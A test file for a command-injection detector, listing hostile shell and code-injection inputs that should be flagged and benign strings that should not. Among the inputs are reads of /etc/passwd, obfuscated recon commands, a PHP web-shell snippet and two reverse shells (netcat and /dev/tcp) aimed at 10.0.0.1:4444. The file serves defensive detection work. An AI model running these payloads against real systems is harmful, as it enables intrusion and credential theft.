import { detectCommandInjection } from './commandInjectionDetector';

describe('detectCommandInjection', () => {
  it.each([
    ['127.0.0.1; cat /etc/passwd', 'cmdi:semicolon+read'],
    ['x && whoami', 'cmdi:and+recon'],
    ['a$(id)b', 'cmdi:subst+recon'],
    ['`uname -a`', 'cmdi:backtick+recon'],
    ['| nc 10.0.0.1 4444 -e /bin/sh', 'cmdi:pipe+net'],
    ['& ping -n 21 127.0.0.1 &', 'cmdi:amp+net'],
    ['; sleep 10', 'cmdi:semicolon+delay'],
    ['& cmd /c dir', 'cmdi:amp+shell'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'cmdi:devtcp'],
    [';{cat,/etc/passwd}', 'cmdi:brace+read'],
    ['& %COMSPEC% /c ver', 'cmdi:amp+shell'],
    ['x%COMSPEC%', 'cmdi:win+comspec'],
    ['1; w -i', 'cmdi:semicolon+recon'],
    ['x | WHOAMI', 'cmdi:pipe+recon'],
    [';/???/c?t /???/p??s??', 'cmdi:semicolon+glob'],
  ])('%s is %s', (value, fingerprint) => {
    const m = detectCommandInjection(value);
    expect(m?.fingerprint).toBe(fingerprint);
    expect(m!.confidence).toBeGreaterThanOrEqual(0.7);
  });

  it.each([";w'h'o'am'i", ';w"h"oami', ';wh\\oami', '& w^h^o^a^m^i', ';who$@ami'])('undoes word splitting in %s', (value) => {
    const m = detectCommandInjection(value);
    expect(m?.fingerprint).toMatch(/\+quoted$/);
    expect(m?.reason).toContain('whoami');
  });

  it.each([
    [";system('id');", 'cmdi:code+system'],
    ["'.passthru('ls -la').'", 'cmdi:code+php'],
    ["<?php echo shell_exec($_GET['c']); ?>", 'cmdi:code+php'],
    ['phpinfo()', 'cmdi:code+php'],
    ["eval(base64_decode('cGhwaW5mbygpOw=='))", 'cmdi:code+php'],
    ["require('child_process').exec('id')", 'cmdi:code+node'],
    ["process.mainModule.require('child_process').execSync('whoami')", 'cmdi:code+node'],
    ["__import__('os').system('id')", 'cmdi:code+python'],
    ["Runtime.getRuntime().exec(\"id\")", 'cmdi:code+java'],
  ])('finds code injection that runs the OS in %s (%s)', (value, fingerprint) => {
    const m = detectCommandInjection(value);
    expect(m?.fingerprint).toBe(fingerprint);
    expect(m!.confidence).toBeGreaterThanOrEqual(0.85);
  });

  it.each(["The system('s) fine", "exec('report')", 'Open the operating system (OS) settings', 'eval(expression) in the docs'])(
    'leaves code-like prose %s alone',
    (value) => {
      expect(detectCommandInjection(value)).toBeUndefined();
    },
  );

  it('reads ${IFS} as a space', () => {
    expect(detectCommandInjection(';cat${IFS}/etc/passwd')?.fingerprint).toBe('cmdi:semicolon+read+ifs');
  });

  it('reports a command with no separator only in an unambiguous shape, weakly', () => {
    expect(detectCommandInjection('ls -la')).toBeUndefined();
    expect(detectCommandInjection('nc -e /bin/sh 10.0.0.1 4444')?.confidence).toBeGreaterThanOrEqual(0.8);
  });

  it.each([
    'Tom & Jerry',
    'R&D',
    'salt; pepper',
    'a | b',
    'Books & more',
    'cat food',
    'ping me later',
    '$(price)',
    '$5.00',
    '| name | id | email |',
    'Run `ls -la` to see hidden files in the folder',
    'name=John&id=5',
    'Written in PHP & Python',
    '$(document).ready(function() {})',
    // Random passwords: Unix names are lower case, one letter must stand alone, a glob needs a directory.
    '.Oz.j1];W>',
    ';w>-##;tq*fD',
    '}xywL|SH',
    'zRe6Ihf`/Ep_5r?',
  ])('leaves %s alone', (value) => {
    expect(detectCommandInjection(value)).toBeUndefined();
  });

  it('bounds the fragment', () => {
    const m = detectCommandInjection(`; cat /etc/passwd ${'a'.repeat(500)}`);
    expect(m?.fragment.length).toBeLessThanOrEqual(120);
  });
});
